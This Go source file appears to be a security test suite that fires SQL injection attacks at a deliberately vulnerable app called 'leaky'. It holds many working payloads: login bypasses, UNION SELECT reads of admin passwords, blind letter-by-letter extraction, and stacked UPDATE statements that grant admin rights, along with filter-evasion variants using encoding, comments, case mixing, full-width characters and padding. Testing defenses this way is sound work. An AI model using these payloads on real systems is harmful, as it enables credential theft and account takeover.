package canon

import (
	"encoding/base64"
	"net/http"
	"slices"
	"strings"
	"sync"
)

// sqli are texts that become a part of a statement.
func sqli() []Attack {
	return slices.Concat(sqlLogin(), sqlSearch(), sqlPlaces(), sqlDisguised(), sqlElsewhere())
}

// union reads the admin's password into the columns of a product.
const union = `UNION SELECT 1, 'x', password, 1.0, 1, 'red', username FROM users WHERE id = 1`

// sqlLogin are ways past a password, by a quoted text.
func sqlLogin() []Attack {
	in := func(name string, request func(s *Scene) *http.Request) Attack {
		return Attack{Name: "login: " + name, App: "leaky", Gain: "the admin's account without its password", Works: func(s *Scene) bool {
			client := s.Client()
			answer := s.Try(client, request(s))
			s.Logf("%d", answer.Status)
			return answer.Status == http.StatusFound && s.mine(client) == "1"
		}}
	}
	plain := func(username, password string) Attack {
		return in(username+" with "+password, sending("/login", "username", username, "password", password))
	}
	const always = `' OR '1'='1'; --`
	filler := strings.Repeat("filler=&", 900)
	return []Attack{
		plain(always, "x"),
		plain(`admin' --`, "x"),
		plain(`admin'/*`, "x"),                    // SQLite takes a comment that nobody closes
		plain(`admin'/*`, `*/ AND '1'='1`),        // two fields, one comment
		plain(`admin`, `' OR '1'='1`),             //
		plain(`admin`, `'or''='`),                 // no blank, no comment
		plain(`x`, `' oR 1=1 limit 1--`),          //
		plain(`' IS NOT NULL --`, "x"),            // neither OR nor a comparison
		plain(`' OR username LIKE 'adm%' --`, ""), //
		plain("admin'\n--\t", "x"),                //
		plain(`' UNION SELECT 1, 'admin', '', '', '', '', 'admin' --`, "x"),
		plain(`x' OR id = (SELECT min(id) FROM users) --`, "x"),
		in("a form of parts", func(s *Scene) *http.Request {
			return s.Parts("/login", nil, "username", always, "password", "x")
		}),
		in("a second name that is harmless", sending("/login", "username", always, "username", "demo", "password", "x")),
		in("every letter encoded", func(s *Scene) *http.Request {
			return s.order("/login", "username="+encoded(always)+"&password=x")
		}),
		in("behind 900 other fields", func(s *Scene) *http.Request {
			return s.order("/login", filler+query([]string{"username", always, "password", "x"}))
		}),
		in("behind 200 KB of the same field", sending("/login", "username", "admin", "password", strings.Repeat("x ", 100_000)+`' OR '1'='1`)),
		in("between 200 KB of another field", sending("/login", "note", strings.Repeat("a word, ", 13_000), "username", always, "password", "x",
			"more", strings.Repeat("a word, ", 13_000))),
	}
}

// encoded writes every byte as %XX.
func encoded(text string) string {
	const digits = "0123456789abcdef"
	var out strings.Builder
	for _, c := range []byte(text) {
		out.Write([]byte{'%', digits[c>>4], digits[c&15]})
	}
	return out.String()
}

// sqlSearch leave a text between % and %.
func sqlSearch() []Attack {
	const gain = "any table of the database"
	search := func(q string) Attack {
		return leaky("search: "+q, gain, adminsPassword, asking("/search", "q", q))
	}
	return []Attack{
		search(`zz%' ` + union + ` --`),
		search(`zz%'/**/` + strings.ReplaceAll(union, " ", "/**/") + `--`),
		search(strings.ReplaceAll("zz%' "+union+" --", " ", "\n")),
		search(strings.ReplaceAll("zz%' "+union+" --", " ", "\t")),
		search(`zz%' uNiOn aLl sElEcT 1,char(120),password,1.0,1,char(120),username fRoM users /*`),
		search(`zz' AND 0 ` + union + ` OR '%'='`),
		search(`zz%' UNION SELECT 1,2,(SELECT group_concat(username||':'||password) FROM users WHERE id<3),4,5,6,7--`),
		search(`zz%' UNION SELECT * FROM (SELECT 1), (SELECT 'x'), (SELECT password FROM users WHERE id = 1), (SELECT 1.0), (SELECT 1), (SELECT 'x'), (SELECT 'x') --`),
		search(`zz%' UNION VALUES(1,2,(SELECT password FROM users LIMIT 1),4,5,6,7)--`),
		leaky("search: a second text that is harmless", gain, adminsPassword, asking("/search", "q", `zz%' `+union+` --`, "q", "beaker")),
		leaky("search: every letter encoded", gain, adminsPassword, func(s *Scene) *http.Request {
			return s.Request(http.MethodGet, "/search?q="+encoded(`zz%' `+union+` --`), "")
		}),
		leaky("search: everything", "what the search was to leave out", "Liebig", asking("/search", "q", `zz%' OR '%'='`)),
		blind("search: letter by letter", "/search", "q", `Beaker%' AND (SELECT substr(password, 1, 1) FROM users WHERE id = 1) = 'GUESS' AND '%'='`),
		{Name: "search: while others search", App: "leaky", Gain: gain, Works: func(s *Scene) bool {
			return s.amongOthers(asking("/search", "q", `zz%' `+union+` --`), adminsPassword)
		}},
	}
}

// blind finds the first letter of the admin's password by what a page looks like.
func blind(name, path, field, value string) Attack {
	return Attack{Name: name, App: "leaky", Gain: "any table of the database, a bit at a time", Works: func(s *Scene) bool {
		look := func(letter string) string {
			text := s.Try(s.Client(), asking(path, field, strings.ReplaceAll(value, "GUESS", letter))(s)).Text
			start, end := strings.Index(text, `<section class="shelf">`), strings.Index(text, "</section>")
			if start < 0 || end < start {
				return "" // refused
			}
			return text[start:end]
		}
		return look("e") != look("f")
	}}
}

// amongOthers repeats an attack while other clients, who share its worker's threads, ask
// for harmless things.
func (s *Scene) amongOthers(attack func(s *Scene) *http.Request, want string) bool {
	s.Helper()
	var group sync.WaitGroup
	for range 4 {
		others := s.ClientFrom(s.Elsewhere())
		group.Go(func() {
			for range 15 {
				s.Try(others, asking("/search", "q", "flask, 500 ml")(s))
			}
		})
	}
	var once sync.Mutex
	found := false
	for range 3 {
		client := s.ClientFrom(s.Elsewhere())
		group.Go(func() {
			for range 5 {
				leaks := s.leaks(client, attack(s), want)
				once.Lock()
				found = found || leaks
				once.Unlock()
			}
		})
	}
	group.Wait()
	return found
}

// sqlPlaces are the places of a statement that have no quotes around them.
func sqlPlaces() []Attack {
	const gain = "any table of the database"
	number := func(id string) Attack {
		return leaky("number: "+id, gain, adminsPassword, asking("/product", "id", id))
	}
	return []Attack{
		number("0 " + union),
		number("0/**/" + strings.ReplaceAll(union, " ", "/**/")),
		number("-1\nUNION ALL SELECT 1,2,password,4,5,6,7\nFROM users"),
		number("0 UNION SELECT 1,2,password,4,5,6,7 FROM users WHERE id=1 -- \x01"),
		number("(0)UNION SELECT 1,2,password,4,5,6,7 FROM users WHERE id=1"),
		leaky("number: 4-1", "that it is SQL", "Burette", asking("/product", "id", "4-1")),
		leaky("number: 0 OR id=3", "that it is SQL", "Burette", asking("/product", "id", "0 OR id=3")),
		leaky("number: (SELECT 3)", "that it is SQL", "Burette", asking("/product", "id", "(SELECT 3)")),
		leaky("number: 3 of another column", "that it is SQL", "Burette", asking("/product", "id", "id LIMIT 1 OFFSET 2")),
		leaky("IN", gain, adminsPassword, asking("/compare", "ids", "0) "+union+" --")),
		leaky("IN: a statement inside", "more than was asked for", "Liebig", asking("/compare", "ids", "SELECT id FROM products")),
		blind("ORDER BY: letter by letter", "/", "sort", "CASE WHEN (SELECT substr(password, 1, 1) FROM users WHERE id = 1) = 'GUESS' THEN name ELSE price END"),
		blind("ORDER BY: letter by letter, after a column", "/", "sort", "stock IS NULL, (SELECT CASE WHEN substr(password, 1, 1) = 'GUESS' THEN products.price ELSE products.name END FROM users WHERE id = 1)"),
		leaky("ORDER BY: a LIMIT", "that it is SQL", "Nothing here", asking("/", "sort", "name LIMIT 0")),
	}
}

// sqlDisguised are texts that a view changes before they become a part of a statement.
func sqlDisguised() []Attack {
	const gain = "any table of the database"
	const coupons = "' UNION SELECT username, password FROM users WHERE id = 1 --"
	wide := strings.NewReplacer("'", "\uff07", "(", "\uff08", ")", "\uff09", "=", "\uff1d", "-", "\uff0d")
	return []Attack{
		leaky("lower case: a view makes it so", gain, adminsPassword, asking("/coupon", "code", strings.ToUpper(coupons))),
		leaky("lower case: and it has blanks around it", gain, adminsPassword, asking("/coupon", "code", "  \t"+strings.ToUpper(coupons)+"\n")),
		leaky("base64", gain, adminsPassword, asking("/track", "order",
			base64.RawURLEncoding.EncodeToString([]byte("' UNION SELECT username, password, 1 FROM users WHERE id = 1 --")))),
		leaky("base64 with other characters between", gain, adminsPassword, asking("/track", "order",
			strings.Join(strings.Split(base64.RawURLEncoding.EncodeToString([]byte("' UNION SELECT username, password, 1 FROM users WHERE id = 1 --")), "Q"), "Q."))),
		leaky("encoded twice", gain, adminsPassword, asking("/old", "name", encoded(coupons))),
		leaky("a quote that is encoded twice", gain, adminsPassword, asking("/old", "name", strings.ReplaceAll(coupons, "'", "%27"))),
		leaky("full-width letters", gain, adminsPassword, asking("/suggest", "q", wide.Replace("zz' UNION SELECT password FROM users WHERE (id=1) --"))),
	}
}

// sqlElsewhere are statements whose texts do not come from a form or a query, or that do not
// run where the request is.
func sqlElsewhere() []Attack {
	const gain = "any table of the database"
	promoted := func(name string, body func(p Person) string) Attack {
		return Attack{Name: "several statements: " + name, App: "leaky", Gain: "a customer is the admin", Works: func(s *Scene) bool {
			p := s.Join()
			client := s.LoggedIn(p)
			account := s.mine(client)
			answer := s.Try(client, s.JSON(http.MethodPost, "/stock", body(p)))
			s.Logf("%d %.200s", answer.Status, answer.Text)
			return s.isAdmin(client, account)
		}}
	}
	line := func(code, count string) string {
		return `{"lines": [{"code": "` + code + `", "count": ` + count + `}]}`
	}
	const months = "2026-01' UNION SELECT password FROM users WHERE id = 1 ORDER BY 1 DESC --"
	return []Attack{
		promoted("a quoted text", func(p Person) string {
			return line("x'; UPDATE users SET role='admin' WHERE username='"+p.Name+"'; --", "1")
		}),
		promoted("in place of a number", func(p Person) string {
			return line("B-250", `"stock; UPDATE users SET role='admin' WHERE username='`+p.Name+`'; --"`)
		}),
		promoted("escaped for JSON", func(p Person) string {
			return line(`x\u0027; \u0055PDATE users SET role=\u0027admin\u0027 WHERE username=\u0027`+p.Name+`\u0027; --`, "1")
		}),
		promoted("the last of many lines", func(p Person) string {
			return `{"lines": [` + strings.Repeat(`{"code": "B-250, please", "count": 7}, `, 800) +
				`{"code": "x'; UPDATE users SET role='admin' WHERE username='` + p.Name + `'; --", "count": 1}]}`
		}),
		leaky("cookie", gain, adminsPassword, func(s *Scene) *http.Request {
			return s.Request(http.MethodGet, "/", "", "Cookie", "currency='UNION/**/SELECT*FROM(SELECT'x')JOIN(SELECT/**/password/**/FROM/**/users/**/WHERE/**/id=1)JOIN(SELECT+1.0)--")
		}),
		leaky("cookie in quotes", gain, adminsPassword, func(s *Scene) *http.Request {
			return s.Request(http.MethodGet, "/", "", "Cookie", `currency="\047 UNION SELECT 1\054 password\054 1.0 FROM users WHERE id = 1 --"`)
		}),
		leaky("another thread", gain, adminsPassword, asking("/report", "months", months)),
		{Name: "another thread that others have started", App: "leaky", Gain: gain, Works: func(s *Scene) bool {
			for range 16 { // each worker's threads are there, and had harmless work
				s.leaks(s.Client(), asking("/report", "months", "2026-08|2026-09|2026-10|2026-11")(s), "120.4")
			}
			return s.leaks(s.Client(), asking("/report", "months", strings.Replace(months, "01", "02", 1))(s), adminsPassword)
		}},
		leaky("a part of a list", gain, adminsPassword, asking("/report", "months", "2026-08|2026-09|"+strings.Replace(months, "01", "03", 1))),
		{Name: "another thread, while others ask", App: "leaky", Gain: gain, Works: func(s *Scene) bool {
			return s.amongOthers(asking("/report", "months", months), adminsPassword)
		}},
	}
}
